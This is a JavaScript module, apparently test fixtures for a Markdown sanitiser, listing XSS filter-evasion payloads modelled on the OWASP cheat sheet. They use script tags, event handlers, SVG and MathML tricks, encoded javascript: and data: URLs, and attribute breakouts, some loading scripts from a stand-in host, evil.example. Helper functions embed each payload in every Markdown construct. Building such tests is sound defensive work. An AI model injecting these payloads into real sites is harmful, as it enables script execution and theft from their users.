// Ways of getting a script to run from text, our own collection after the classes of the OWASP XSS Filter Evasion Cheat Sheet. Each calls pwn() or
// asks evil.example for something if it works.
export const markup = [
  "<script>pwn()</script>", "<SCRIPT>pwn()</SCRIPT>", "<script src=//evil.example/x.js></script>", "<scr<script>ipt>pwn()</script>", "<script\n>pwn()</script\n>",
  "<script/x>pwn()</script>", "<svg onload=pwn()>", "<svg><script>pwn()</script></svg>", "<svg><animate onbegin=pwn() attributeName=x></svg>",
  "<svg><a xlink:href=\"javascript:pwn()\"><text y=20>x</text></a></svg>", "<svg><use href=\"data:image/svg+xml,<svg id=x onload=pwn()>#x\"/></svg>",
  "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=pwn()&gt;\">", "<img src=x onerror=pwn()>", "<img src=x:x onerror=\"pwn()\">",
  "<img/src=x/onerror=pwn()>", "<img src=`x`onerror=pwn()>", "<image src=x onerror=pwn()>", "<video><source onerror=pwn()></video>", "<audio src=x onerror=pwn()>",
  "<iframe src=javascript:pwn()></iframe>", "<iframe srcdoc=\"<script>parent.pwn()</script>\"></iframe>", "<object data=javascript:pwn()></object>",
  "<embed src=javascript:pwn()>", "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>", "<meta http-equiv=refresh content=\"0;url=javascript:pwn()\">",
  "<style>@import '//evil.example/x.css';</style>", "<body onload=pwn()>", "<input autofocus onfocus=pwn()>", "<select autofocus onfocus=pwn()>", "<details open ontoggle=pwn()>x</details>",
  "<details open title=\"x\" ontoggle=pwn()><summary>s</summary></details>", "<kbd title=\"x\" onmouseover=pwn()>k</kbd>", "<kbd title='\"' onmouseover=pwn() '>k</kbd>", "<kbd onmouseover=pwn()>k</kbd>",
  "<abbr title=\"\"onmouseover=\"pwn()\">a</abbr>", "<abbr title=x/onmouseover=pwn()>a</abbr>", "<mark style=\"background:url(//evil.example/x)\">m</mark>", "<sub/onmouseover=pwn()>s</sub>",
  "<sup><script>pwn()</script></sup>", "<br onmouseover=pwn()>", "<summary onclick=pwn() autofocus tabindex=1 onfocus=pwn()>s</summary>", "<form action=javascript:pwn()><button autofocus>b</button></form>",
  "<isindex action=javascript:pwn()>", "<marquee onstart=pwn()>m</marquee>", "<x onclick=pwn() contenteditable onfocus=pwn() autofocus>x</x>", "<template><script>pwn()</script></template>",
  "<noscript><p title=\"</noscript><img src=x onerror=pwn()>\">", "<textarea><img title=\"</textarea><img src=x onerror=pwn()>\">", "<title><img title=\"</title><img src=x onerror=pwn()>\">",
  "<!--><img src=x onerror=pwn()>-->", "<!-- --!><img src=x onerror=pwn()> -->", "<!--\n<script>pwn()</script>\n-->", "<![CDATA[<img src=x onerror=pwn()>]]>", "<?php <img src=x onerror=pwn()> ?>", "<!DOCTYPE x><img src=x onerror=pwn()>",
  "</p><script>pwn()</script>", "</article></main><script>pwn()</script>", "</code></pre><script>pwn()</script>", "</script><script>pwn()</script>", "</textarea></title><script>pwn()</script>", "]]></script><script>pwn()</script>",
  "\"><script>pwn()</script>", "'><script>pwn()</script>", "\" onmouseover=\"pwn()", "' onmouseover='pwn()", "` onmouseover=`pwn()", "\" autofocus onfocus=pwn() x=\"", "&lt;script&gt;pwn()&lt;/script&gt;", "&#60;script&#62;pwn()&#60;/script&#62;",
  "\\<script>pwn()</script>", "<\u0000script>pwn()</script>", "<scri\u0000pt>pwn()</script>", "\uFF1Cscript\uFF1Epwn()\uFF1C/script\uFF1E", "<a href=javascript:pwn()>a</a>", "<a href='&#106;avascript:pwn()'>a</a>",
  "{{ '<script>pwn()</script>' }}", "{{{ x }}}<script>pwn()</script>", "${pwn()}", "<%= pwn() %>", "{%raw%}<script>pwn()</script>", "<kbd><kbd><kbd></sub><script>pwn()</script></kbd>",
  "<details><summary>\n\n<script>pwn()</script>\n\n</summary></details>", "<a name=config id=document href=x>clobber</a>", "<form name=body><input name=innerHTML></form>",
];

export const addresses = [
  "javascript:pwn()", "JaVaScRiPt:pwn()", "java\tscript:pwn()", "java\nscript:pwn()", " javascript:pwn()", "\u0001javascript:pwn()", "\u00a0javascript:pwn()", "javascript&colon;pwn()", "&#106;avascript:pwn()",
  "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:pwn()", "&#0000106avascript:pwn()", "java&Tab;script:pwn()", "java&NewLine;script:pwn()", "javascript%3Apwn()", "javascript\\:pwn()", "vbscript:pwn()", "data:text/html,<script>parent.pwn()</script>",
  "data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduKCk8L3NjcmlwdD4=", "data:image/svg+xml,<svg onload=pwn()>", "blob:x", "filesystem:x", "view-source:javascript:pwn()", "//evil.example/x", "\\\\evil.example/x", "/\\evil.example/x", "///evil.example", "http:javascript:pwn()",
  "feed:javascript:pwn()", "jar:javascript:pwn()!/", "x\" onmouseover=\"pwn()", "x' onmouseover='pwn()", "x`onmouseover=`pwn()", "x><script>pwn()</script>", "#\"><script>pwn()</script>", "?\"><script>pwn()</script>", "https://example.org/\"onmouseover=\"pwn()",
  "https://example.org/<script>pwn()</script>", "mailto:a@b.example\"onmouseover=\"pwn()", "tel:1\"onmouseover=\"pwn()", "https://u:p@evil.example/", "javascript://example.org/%0apwn()", "javascript:/*--></title></style></textarea></script><svg onload='pwn()'>",
];

/** Every place of a page that an attacker can write to, with the attack in it. */
export const places = (attack) => [
  `Text ${attack} end.`,
  `## Heading ${attack}`,
  `## Heading {#${attack.replace(/\s/g, "")}}`,
  `*${attack}* **${attack}** ~~${attack}~~ \`${attack}\``,
  `- [ ] ${attack}\n- ${attack}`,
  `| ${attack.replace(/\|/g, "\\|")} | b |\n|---|:-:|\n| ${attack.replace(/\|/g, "\\|")} | c |`,
  `> [!NOTE]\n> ${attack}`,
  `> [!${attack}]\n> x`,
  `Note[^1].\n\n[^1]: ${attack}`,
  `Note[^${attack}].\n\n[^${attack}]: x`,
  `\`\`\`text\n${attack}\n\`\`\``,
  `\`\`\`html\n${attack}\n\`\`\``,
  `\`\`\`python title="${attack.replace(/"/g, "&quot;")}"\n${attack}\n\`\`\``,
  `~~~ ${attack}\nx\n~~~`,
  `[${attack}](index.md "${attack.replace(/"/g, "\\\"")}")`,
  `![${attack}](p.png "${attack.replace(/"/g, "\\\"")}")`,
  `![${attack}](https://example.org/x.png)`,
  `[x][${attack}]\n\n[${attack}]: index.md '${attack}'`,
  `<details><summary>${attack}</summary>\n\n${attack}\n\n</details>`,
  `<kbd title="${attack}">x</kbd> <abbr title='${attack}'>y</abbr>`,
  `<!-- ${attack} -->`,
  `&#60;x&#62; ${attack.replace(/</g, "&lt;")} ${attack.replace(/</g, "&#x3c;")}`,
];

export const placesOfAddresses = (address) => [
  `[x](${address})`, `[x](<${address}>)`, `![x](${address})`, `![x](<${address}>)`, `<${address}>`, `[x][r]\n\n[r]: ${address}`, `[x][r]\n\n[r]: <${address}>`, `Bare ${address} here.`, `[![x](p.png)](${address})`,
];
